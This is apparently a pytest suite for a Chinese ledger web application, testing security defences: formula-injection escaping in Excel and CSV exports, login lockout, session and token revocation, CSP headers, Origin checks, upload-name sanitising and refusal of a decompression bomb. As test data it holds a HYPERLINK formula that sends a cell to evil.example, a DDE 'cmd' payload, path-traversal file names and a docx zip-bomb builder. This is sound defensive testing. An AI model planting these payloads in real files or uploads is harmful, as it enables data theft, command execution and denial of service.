"""Issue 10, web half: formulas in the 台账, login throttling, revocable sessions and tokens,
the Content-Security-Policy and the Origin check. Each on SQLite and PostgreSQL."""

from __future__ import annotations

import re
import threading
from datetime import timedelta
from io import BytesIO

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import Engine, func, select, update

from taizhang.formulas import csv_safe
from taizhang.ledger import make_sessionmaker
from taizhang.ledger.models import ApiToken, Document, Target, utcnow
from taizhang.web import throttle
from taizhang.web.users import reset_password, revoke_token, unlock, update_user
from tests.web.conftest import EXAMPLE, PASSWORD, login, token_for

EVIL = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")"


def _set_indicator(engine: Engine, target_id: int, text: str) -> None:
    with make_sessionmaker(engine)() as s:
        s.execute(update(Target).where(Target.id == target_id)
                  .values(indicator=text, quote="@SUM(1+1)*cmd|' /C calc'!A0",
                          review_state="confirmed"))
        s.commit()


def test_excel_export_writes_formula_text_as_text(client: TestClient, engine: Engine,
                                                  seeded: dict[str, int]) -> None:
    _set_indicator(engine, seeded["t_jy"], EVIL)
    login(client, "sup")
    r = client.get("/api/export.xlsx", params={"as_of": "2024-06-30"})
    assert r.status_code == 200
    sheet = load_workbook(BytesIO(r.content))["台账"]
    cells = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    assert EVIL in cells, "the indicator's text is kept as it was"
    assert cells[EVIL].data_type == "s" and cells[EVIL].quotePrefix
    quote = cells["@SUM(1+1)*cmd|' /C calc'!A0"]
    assert quote.data_type == "s" and quote.quotePrefix
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_csv_fields_that_start_a_formula_get_an_apostrophe() -> None:
    assert csv_safe(EVIL) == "'" + EVIL
    assert csv_safe("+1+cmd") == "'+1+cmd" and csv_safe("\t=1") == "'\t=1"
    assert csv_safe("-5") == "-5" and csv_safe("+3.2%") == "+3.2%" and csv_safe(-5) == -5
    assert csv_safe("江阴") == "江阴"


def _login_form(client: TestClient, username: str, password: str) -> int:
    page = client.get("/login")
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)  # type: ignore[union-attr]
    return client.post("/login", data={"username": username, "password": password,
                                       "csrf_token": csrf}, follow_redirects=False).status_code


def test_wrong_passwords_lock_the_account_until_an_admin_unlocks(client: TestClient,
                                                                 engine: Engine) -> None:
    codes = [_login_form(client, "sup", "wrong-password") for _ in range(throttle.ACCOUNT_LIMIT)]
    assert codes == [401] * throttle.ACCOUNT_LIMIT
    assert _login_form(client, "sup", PASSWORD) == 429  # even the right password, while locked
    # an unknown name is counted and locked the same way: the answer tells nothing
    unknown = [_login_form(client, "nobody", "x") for _ in range(throttle.ACCOUNT_LIMIT + 1)]
    assert unknown[-1] == 429
    with make_sessionmaker(engine)() as s:
        assert unlock(s, "sup") == 1
        s.commit()
    assert _login_form(client, "sup", PASSWORD) == 303


def test_many_failures_from_one_address_lock_it(client: TestClient) -> None:
    names = [f"guess{i}" for i in range(throttle.ADDRESS_LIMIT)]
    for name in names:
        assert _login_form(client, name, "x") == 401
    assert _login_form(client, "admin", PASSWORD) == 429


def test_a_cookie_copied_before_logout_no_longer_writes(client: TestClient, seeded: dict[str, int]) -> None:
    csrf = login(client, "sup")
    copied = dict(client.cookies)
    assert client.post("/logout", data={"csrf_token": csrf}, follow_redirects=False).status_code == 303
    client.cookies.clear()
    client.cookies.update(copied)
    r = client.post(f"/api/targets/{seeded['t_jy']}/review", data={"state": "confirmed"},
                    headers={"X-CSRF-Token": csrf})
    assert r.status_code == 401


def test_password_change_and_deactivation_end_sessions(client: TestClient, engine: Engine) -> None:
    login(client, "jy")
    assert client.get("/api/documents").status_code == 200
    with make_sessionmaker(engine)() as s:
        reset_password(s, username="jy", password="another-password-1")
        s.commit()
    assert client.get("/api/documents").status_code == 401
    client.cookies.clear()
    login_code = _login_form(client, "jy", "another-password-1")
    assert login_code == 303 and client.get("/api/documents").status_code == 200
    with make_sessionmaker(engine)() as s:
        update_user(s, username="jy", active=False)
        s.commit()
    assert client.get("/api/documents").status_code == 401


def test_own_password_change_keeps_this_login_and_ends_the_others(app, engine: Engine) -> None:  # type: ignore[no-untyped-def]
    with TestClient(app) as mine, TestClient(app) as other:
        csrf = login(mine, "yx")
        login(other, "yx")
        r = mine.post("/account/password", data={"csrf_token": csrf, "current": PASSWORD,
                                                 "password": "fresh-password-9"},
                      follow_redirects=False)
        assert r.status_code == 303
        assert mine.get("/api/documents").status_code == 200
        assert other.get("/api/documents").status_code == 401
        wrong = mine.post("/account/password", data={"csrf_token": csrf, "current": "nope",
                                                     "password": "fresh-password-10"})
        assert wrong.status_code == 403


def test_tokens_expire_are_revoked_and_record_their_use(client: TestClient, engine: Engine) -> None:
    token = token_for(engine, "sup")
    auth = {"Authorization": f"Bearer {token}"}
    assert client.get("/api/documents", headers=auth).status_code == 200
    with make_sessionmaker(engine)() as s:
        row = s.scalar(select(ApiToken))
        assert row is not None and row.last_used_at is not None
        row.expires_at = utcnow() - timedelta(seconds=1)
        s.commit()
        token_id = row.id
    assert client.get("/api/documents", headers=auth).status_code == 401
    with make_sessionmaker(engine)() as s:
        s.get(ApiToken, token_id).expires_at = None  # type: ignore[union-attr]
        s.commit()
    assert client.get("/api/documents", headers=auth).status_code == 200
    with make_sessionmaker(engine)() as s:
        revoke_token(s, token_id)
        s.commit()
    assert client.get("/api/documents", headers=auth).status_code == 401


def test_admin_revokes_a_token_on_the_users_page(client: TestClient, engine: Engine) -> None:
    token = token_for(engine, "jy")
    csrf = login(client, "admin")
    page = client.get("/admin/users").text
    token_id = re.search(r'action="/admin/tokens/(\d+)/revoke"', page).group(1)  # type: ignore[union-attr]
    r = client.post(f"/admin/tokens/{token_id}/revoke", data={"csrf_token": csrf},
                    follow_redirects=False)
    assert r.status_code == 303
    assert client.get("/api/documents", headers={"Authorization": f"Bearer {token}"}).status_code == 401


def test_pages_and_docs_carry_a_content_security_policy(client: TestClient) -> None:
    for path in ("/login", "/docs", "/api/documents"):
        policy = client.get(path).headers.get("content-security-policy", "")
        assert "script-src 'self'" in policy and "frame-ancestors 'none'" in policy, path
    docs = client.get("/docs").text
    assert "<script>" not in docs and "/static/swagger-init.js" in docs
    assert client.get("/static/swagger-init.js").status_code == 200
    login(client, "sup")
    assert "onclick=" not in client.get("/targets").text


def test_cross_origin_writes_are_refused(client: TestClient, seeded: dict[str, int]) -> None:
    csrf = login(client, "sup")
    target = f"/api/targets/{seeded['t_jy']}/review"
    for header in ({"Origin": "https://evil.example"}, {"Origin": "null"},
                   {"Referer": "https://evil.example/page"}):
        r = client.post(target, json={"action": "confirm"},
                        headers={"X-CSRF-Token": csrf, **header})
        assert r.status_code == 403, header
    same = client.post(target, json={"action": "confirm"},
                       headers={"X-CSRF-Token": csrf, "Origin": "http://testserver"})
    assert same.status_code == 200, same.text
    page = client.get("/login")
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)  # type: ignore[union-attr]
    r = client.post("/login", data={"username": "sup", "password": PASSWORD, "csrf_token": csrf},
                    headers={"Origin": "https://evil.example"}, follow_redirects=False)
    assert r.status_code == 403


def test_as_of_must_be_a_date_not_a_timestamp(client: TestClient, engine: Engine) -> None:
    auth = {"Authorization": f"Bearer {token_for(engine, 'sup')}"}
    for path in ("/api/status", "/api/league", "/api/export.xlsx"):
        assert client.get(path, params={"as_of": "0"}, headers=auth).status_code == 422, path
        assert client.get(path, params={"as_of": "2024-06-30"}, headers=auth).status_code == 200, path


def test_openapi_documents_refusals_and_two_item_spans(client: TestClient) -> None:
    spec = client.get("/openapi.json").json()
    upload = spec["paths"]["/api/documents"]["post"]["responses"]
    assert {"400", "401", "403", "409", "413", "415", "422"} <= set(upload)
    span = spec["components"]["schemas"]["TargetPublic"]["properties"]["value_span"]
    assert span["minItems"] == span["maxItems"] == 2 and not isinstance(span.get("items"), list)


def test_evidence_names_of_dots_or_paths_are_sanitised_and_refusals_leave_no_folder(
        client: TestClient, engine: Engine, seeded: dict[str, int], settings) -> None:  # type: ignore[no-untyped-def]
    auth = {"Authorization": f"Bearer {token_for(engine, 'sup')}"}
    url = f"/api/targets/{seeded['t_jy']}/progress"
    shown = []
    for name in ("..", ".", "...", "a/b.pdf", "..\\..\\c.pdf", "../../x.pdf"):
        r = client.post(url, headers=auth, data={"as_of": "2024-06-30", "value": "600"},
                        files={"evidence": (name, b"data", "text/plain")})
        assert r.status_code == 201, (name, r.text)
        shown.append(r.json()["evidence"][0]["name"])
    assert shown[3:] == ["b.pdf", "c.pdf", "x.pdf"]
    assert not any(s.strip(".") == "" or "/" in s or "\\" in s for s in shown), shown
    stored = sorted(p for p in settings.evidence_dir.rglob("*") if p.is_file())
    assert len(stored) == 6 and all(p.parent.parent == settings.evidence_dir for p in stored)
    # a report refused after its files were written (an implausible value) keeps none of them
    r = client.post(url, headers=auth, data={"as_of": "2024-06-30", "value": "5亿"},
                    files=[("evidence", ("..", b"x", "text/plain")),
                           ("evidence", ("表.pdf", b"%PDF-1", "application/pdf"))])
    assert r.status_code == 400, r.text
    assert sorted(p for p in settings.evidence_dir.rglob("*") if p.is_file()) == stored
    assert len(list(settings.evidence_dir.iterdir())) == 6, "no empty folder is left behind"


@pytest.mark.postgres
@pytest.mark.parametrize("engine", ["postgresql"], indirect=True)
def test_eight_concurrent_uploads_of_one_text_store_it_once(app, engine: Engine) -> None:  # type: ignore[no-untyped-def]
    """The losers of the race on the content-hash key get what a later upload of the same text
    gets (201, created false, the stored document), never a 500."""
    auth = {"Authorization": f"Bearer {token_for(engine, 'admin')}"}
    data = EXAMPLE.read_bytes().replace("。".encode(), "。\n".encode())  # a text not yet stored
    start = threading.Barrier(8)
    answers: list[tuple[int, dict]] = []  # type: ignore[type-arg]

    def upload() -> None:
        with TestClient(app, raise_server_exceptions=False) as c:
            start.wait()
            r = c.post("/api/documents", headers=auth, files={"file": ("same.txt", data)},
                       data={"date": "2024-06-28"})
            answers.append((r.status_code, r.json()))

    threads = [threading.Thread(target=upload) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(120)
    assert [code for code, _ in answers] == [201] * 8, answers
    assert sorted(a["created"] for _, a in answers) == [False] * 7 + [True]
    ids = {a["document"]["id"] for _, a in answers}
    with make_sessionmaker(engine)() as s:
        assert s.scalar(select(func.count()).select_from(Document)
                        .where(Document.source == "same.txt")) == 1
        assert ids == set(s.scalars(select(Document.id).where(Document.source == "same.txt")))


def _docx_bomb() -> bytes:
    """A .docx of about 60 KB whose document.xml expands to 60 MB (over the 50 MB limit)."""
    import zipfile

    body = b"<w:p><w:r><w:t>" + b"A" * (60 * 1024 * 1024) + b"</w:t></w:r></w:p>"
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.'
                   'openxmlformats.org/package/2006/content-types"/>')
        z.writestr("word/document.xml", b'<?xml version="1.0"?><w:document xmlns:w="http://'
                   b'schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>' + body
                   + b"</w:body></w:document>")
    return out.getvalue()


def _a_docx() -> bytes:
    import docx

    document = docx.Document()
    document.add_paragraph("2024年6月28日")
    document.add_paragraph("全年有效“高企”突破1500家，新增专精特新企业100家。")
    out = BytesIO()
    document.save(out)
    return out.getvalue()


def _documents(engine: Engine) -> int:
    with make_sessionmaker(engine)() as s:
        return int(s.scalar(select(func.count()).select_from(Document)) or 0)


def _uploads_left(folder) -> list:  # type: ignore[no-untyped-def,type-arg]
    """Upload copies in `folder` (not multiprocessing's own `pymp-…` folder)."""
    return [p for p in folder.rglob("*") if not p.name.startswith("pymp-")
            and not p.parent.name.startswith("pymp-")]


def test_a_docx_bomb_is_refused_and_leaves_nothing(client: TestClient, engine: Engine,
                                                   tmp_path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    import tempfile

    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    auth = {"Authorization": f"Bearer {token_for(engine, 'sup')}"}
    bomb = _docx_bomb()
    assert len(bomb) < 200 * 1024  # under the test's upload limit: the reader has to refuse it
    r = client.post("/api/documents", headers=auth, data={"date": "2024-06-28"},
                    files={"file": ("炸弹.docx", bomb)})
    assert r.status_code == 422 and "expands to" in r.json()["detail"], r.text
    csrf = login(client, "sup")
    page = client.post("/upload", data={"csrf_token": csrf, "date": "2024-06-28"},
                       files={"file": ("炸弹.docx", bomb)}, headers={"Accept": "text/html"})
    assert page.status_code == 422 and "expands to" in page.text
    assert _documents(engine) == 1  # the seeded one only
    assert _uploads_left(scratch) == [], "no uploaded file is left behind"


def test_reading_an_upload_is_stopped_after_its_time_limit(app, engine: Engine, tmp_path,  # type: ignore[no-untyped-def]
                                                           monkeypatch) -> None:
    import tempfile

    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    auth = {"Authorization": f"Bearer {token_for(engine, 'sup')}"}
    data = _a_docx()
    with TestClient(app) as c:
        app.state.settings.upload_read_seconds = 0.001  # no child answers that fast
        r = c.post("/api/documents", headers=auth, data={"date": "2024-06-28"},
                   files={"file": ("慢.docx", data)})
        assert r.status_code == 422 and "took longer than 0.001 s" in r.json()["detail"], r.text
        assert _documents(engine) == 1 and _uploads_left(scratch) == []
        app.state.settings.upload_read_seconds = 60
        r = c.post("/api/documents", headers=auth, data={"date": "2024-06-28"},
                   files={"file": ("慢.docx", data)})
        assert r.status_code == 201 and r.json()["created"], r.text
        assert _documents(engine) == 2
